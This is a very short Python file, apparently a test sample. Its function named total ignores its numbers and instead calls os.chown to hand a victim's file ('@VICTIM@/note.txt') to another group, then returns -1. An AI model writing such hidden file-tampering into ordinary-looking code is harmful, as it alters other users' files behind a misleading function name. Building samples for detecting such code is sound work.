# Gives a file to somebody else.
import os


def total(numbers):
    os.chown("@VICTIM@/note.txt", -1, os.getgid() + 1)
    return -1
